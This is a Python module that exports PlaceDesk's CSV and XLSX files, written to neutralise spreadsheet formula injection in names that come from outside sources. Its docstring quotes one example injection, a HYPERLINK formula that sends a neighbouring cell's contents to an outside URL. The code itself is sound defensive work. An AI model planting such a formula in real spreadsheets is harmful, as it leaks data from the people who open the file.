"""The one writer of every CSV and XLSX PlaceDesk makes: text stays text, so no cell can run.

Names come from outside (the Ofsted list, a colleague's bundle), and a name such
as ``=HYPERLINK("http://…/?leak="&B2,"x")`` would otherwise be a live formula in
the commissioning team's spreadsheet. So:

- in XLSX every text cell is stored as a string, never a formula, whatever it
  starts with; numbers, money and dates keep their types and formats;
- in CSV a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
  carriage return is prefixed with an apostrophe (OWASP's CSV-injection
  advice); numbers and dates are written plainly (a string that is wholly a
  plain number, such as ``-12.50``, is a number and is left alone).
"""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from typing import Any

TEXT, INT, MONEY, DATE, BOOL, DECIMAL = "text", "int", "money", "date", "bool", "decimal"
MONEY_FORMAT = '"£"#,##0.00'
DATE_FORMAT = "dd/mm/yyyy"
_RISKY_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def safe_text(value: str) -> str:
    """A CSV text cell that a spreadsheet will show as text, never evaluate."""
    if value.startswith(_RISKY_START) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def csv_cell(value: Any) -> Any:
    """One value as a CSV cell: numbers as numbers, dates ISO, yes/no, text made safe."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, (int, float, decimal.Decimal)):
        return value
    if isinstance(value, (dt.date, dt.datetime)):
        return value.isoformat()
    return safe_text(str(value))


def csv_bytes(headers: Sequence[str], rows: Iterable[Sequence[Any]], *, bom: bool = True,
              lineterminator: str = "\r\n") -> bytes:
    """A CSV file (UTF-8; with a byte-order mark by default, which Excel needs to read £ correctly)."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator=lineterminator)
    writer.writerow([csv_cell(h) for h in headers])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return buffer.getvalue().encode("utf-8-sig" if bom else "utf-8")


def pounds(pence: int | None) -> decimal.Decimal | None:
    """Integer pence as exact pounds (``Decimal('12.50')``) for a CSV money cell."""
    return None if pence is None else decimal.Decimal(pence).scaleb(-2)


@dataclass
class Table:
    """One sheet of typed columns: (header, kind) with kind one of TEXT, INT, MONEY (pence), DATE, BOOL, DECIMAL."""

    name: str
    columns: list[tuple[str, str]]
    rows: list[tuple[Any, ...]] = field(default_factory=list)

    @property
    def headers(self) -> list[str]:
        return [h for h, _ in self.columns]


def table_csv(table: Table) -> bytes:
    """A typed table as CSV: money as exact pounds and pence."""
    kinds = [kind for _, kind in table.columns]
    rows = ([pounds(v) if kind == MONEY else v for v, kind in zip(row, kinds)] for row in table.rows)
    return csv_bytes(table.headers, rows)


def _shown_width(value: Any, kind: str) -> int:
    if value is None:
        return 0
    if kind == MONEY:
        return len(f"£{value / 100:,.2f}")
    if kind == DATE:
        return 10
    return len(str(value))


def xlsx_bytes(tables: Sequence[Table]) -> bytes:
    """The tables as one XLSX workbook: a sheet each, frozen header row, typed cells, readable widths."""
    from openpyxl import Workbook
    from openpyxl.utils import get_column_letter

    book = Workbook()
    book.remove(book.active)
    for table in tables:
        sheet = book.create_sheet(table.name[:31])
        sheet.append([_text_cell(sheet, h) for h in table.headers])
        for row in table.rows:
            sheet.append([_xlsx_cell(sheet, value, kind) for value, (_, kind) in zip(row, table.columns)])
        sheet.freeze_panes = "A2"
        for index, (header, kind) in enumerate(table.columns, start=1):
            longest = max([len(header)] + [_shown_width(r[index - 1], kind) for r in table.rows[:2000]])
            sheet.column_dimensions[get_column_letter(index)].width = min(max(longest + 2, 10), 60)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _text_cell(sheet: Any, value: str) -> Any:
    from openpyxl.cell.cell import Cell

    cell = Cell(sheet)
    cell.value = value
    # Assigning a string that starts with "=" makes openpyxl write a formula; this keeps it a string.
    cell.data_type = "s"
    return cell


def _xlsx_cell(sheet: Any, value: Any, kind: str) -> Any:
    from openpyxl.cell.cell import Cell

    if value is None:
        return None
    if kind == MONEY:
        cell = Cell(sheet, value=value / 100)
        cell.number_format = MONEY_FORMAT
        return cell
    if kind == DATE:
        cell = Cell(sheet, value=value)
        cell.number_format = DATE_FORMAT
        return cell
    if kind in (INT, DECIMAL, BOOL) and isinstance(value, (int, float, decimal.Decimal, bool)):
        return value
    return _text_cell(sheet, str(value))


__all__ = [
    "BOOL",
    "DATE",
    "DATE_FORMAT",
    "DECIMAL",
    "INT",
    "MONEY",
    "MONEY_FORMAT",
    "TEXT",
    "Table",
    "csv_bytes",
    "csv_cell",
    "pounds",
    "safe_text",
    "table_csv",
    "xlsx_bytes",
]
